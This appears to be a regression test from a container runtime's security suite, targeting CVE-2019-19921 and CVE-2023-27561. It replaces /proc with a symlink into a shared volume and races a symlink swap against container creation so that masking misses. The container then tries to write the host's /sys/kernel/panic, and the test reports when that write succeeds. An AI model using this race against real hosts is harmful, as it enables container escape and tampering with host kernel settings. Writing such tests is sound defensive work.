# class: a false /proc or /sys
# ids: CVE-2019-19921 CVE-2023-27561
# patch: proc-is-a-link
# /proc is a link into a shared volume, whose target is exchanged while the container is made: procfs is mounted at one place, and
# what is to be masked and read-only is looked for at another.
needs_root
mkdir -p "$T/volume/a" "$T/volume/b"
ln -s /volume/a "$T/volume/link"
ln -s /volume/b "$T/volume/other"
rmdir "$ROOTFS/proc"
ln -s /volume/link "$ROOTFS/proc"
mkdir "$ROOTFS/volume"
edit '.mounts = [{destination: "/volume", type: "bind", source: $v, options: ["rbind"]}] + .mounts' --arg v "$T/volume"
script 'for d in /volume/a /volume/b; do [ -e $d/sys/kernel/panic ] && cat $d/sys/kernel/panic >/tmp/p && cat /tmp/p >$d/sys/kernel/panic && echo WRITTEN $d; done 2>/dev/null; true'
background "$ATTACK" exchange "$T/volume/link" "$T/volume/other"
for i in {1..30}; do
	run_container
	[[ $output != *WRITTEN* ]] || stolen "after $i tries a kernel parameter of the host was writable"
done
